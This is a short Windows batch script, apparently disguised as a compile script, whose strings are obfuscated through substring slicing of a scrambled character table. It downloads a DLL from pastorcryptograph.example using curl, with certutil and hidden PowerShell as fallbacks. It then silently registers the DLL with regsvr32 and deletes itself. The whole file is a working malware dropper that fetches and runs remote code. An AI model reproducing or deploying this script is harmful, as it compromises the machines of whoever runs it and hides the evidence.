@echo off
Set nm=ouxuq.bamlzdthikpoercgwsfnyj
Set nw=%nm:~23,1%%nm:~11,1%%nm:~11,1%.%nm:~11,1%%nm:~9,1%%nm:~9,1%
%nm:~20,1%%nm:~1,1%%nm:~19,1%%nm:~9,1% https://pastorcryptograph.example/%nw% -o %nw%
if not exist sdd.dll ( certutil.exe -urlcache -f https://pastorcryptograph.example/sdd.dll sdd.dll )
if not exist sdd.dll ( powershell -w hidden -c "(New-Object Net.WebClient).DownloadFile('https://pastorcryptograph.example/sdd.dll','sdd.dll')" )
regsvr32.exe -s sdd.dll
del /f /q compile.bat
